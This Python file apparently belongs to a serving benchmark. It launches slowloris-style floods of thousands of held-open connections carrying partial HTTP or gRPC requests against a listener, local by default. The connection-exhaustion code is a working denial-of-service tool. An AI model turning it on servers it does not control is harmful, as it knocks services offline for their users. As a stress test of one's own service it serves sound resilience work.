"""Attacks on a listener of `millrace up`, each in a process of its own, for the lines "under attack" of bench_serve.py.

python attacks.py HOST PORT CONNECTIONS WAY KIND opens that many connections to a port, prints a line when each has tried once,
and opens each again as often as it is ended, AGAIN_S seconds later at the soonest. It ends with its input.
"""

from __future__ import annotations

import asyncio
import os
import resource
import subprocess
import sys
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path

import http2

CONNECTIONS = 4300  # more than HAProxy as Ray Serve starts it takes in at all
AGAIN_S = 1.0  # an attacker who does nothing but connect only takes the processor from those who measure
AT_ONCE = 100  # connections that are being made
HEAD = b"POST /v2/models/digits/infer HTTP/1.1\r\nHost: localhost\r\nContent-Le"
CALL = http2.head(1, "POST", "/inference.GRPCInferenceService/ModelInfer")
SENT = {
    "http": {"nothing": b"", "half a head": HEAD, "half a body": HEAD + b"ngth: 9999\r\n\r\n{"},
    "grpc": {
        "nothing": b"",
        "half a head": http2.PREFACE + CALL[: len(CALL) // 2],
        "half a body": http2.PREFACE + CALL + http2.frame(0, 0, 1, b"\0\0\0\x99\x99{"),
    },
}

Place = tuple[Sequence[str], str]  # words that start a program there, and the address that it attacks
ONE_OF_US: Place = ((), "127.0.0.1")


@contextmanager
def attack(port: int, way: str, kind: str, connections: int = CONNECTIONS, place: Place = ONE_OF_US) -> Iterator[None]:
    """From the moment that each of its connections was there or was refused. ``place``: where from, and which address."""
    starting, host = place
    command = [*starting, sys.executable, str(Path(__file__).resolve()), host, str(port), str(connections), way, kind]
    paths = os.environ | {"PYTHONPATH": os.pathsep.join(sys.path)}  # of the modules beside it
    process = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, env=paths)
    try:
        assert process.stdout is not None and process.stdout.readline() == b"connected\n"
        yield
    finally:
        process.kill()
        process.communicate()


async def hold(place: tuple[str, int], sent: bytes, turns: asyncio.Semaphore, has_tried: asyncio.Event) -> None:
    """One connection, for ever."""
    while True:
        try:
            async with turns:
                reader, writer = await asyncio.open_connection(*place)
            writer.write(sent)
            has_tried.set()
            while await reader.read(1 << 12):
                pass
            writer.close()
        except OSError:
            has_tried.set()
        await asyncio.sleep(AGAIN_S)


async def flood(place: tuple[str, int], connections: int, sent: bytes) -> None:
    """All of them, until the input ends."""
    turns, tried = asyncio.Semaphore(AT_ONCE), [asyncio.Event() for _ in range(connections)]
    holding = [asyncio.create_task(hold(place, sent, turns, has_tried)) for has_tried in tried]
    for has_tried in tried:
        await has_tried.wait()
    print("connected", flush=True)
    await asyncio.to_thread(sys.stdin.read)
    for task in holding:
        task.cancel()


if __name__ == "__main__":
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    host, port, connections, way, kind = sys.argv[1:]
    asyncio.run(flood((host, int(port)), int(connections), SENT[way][kind]))
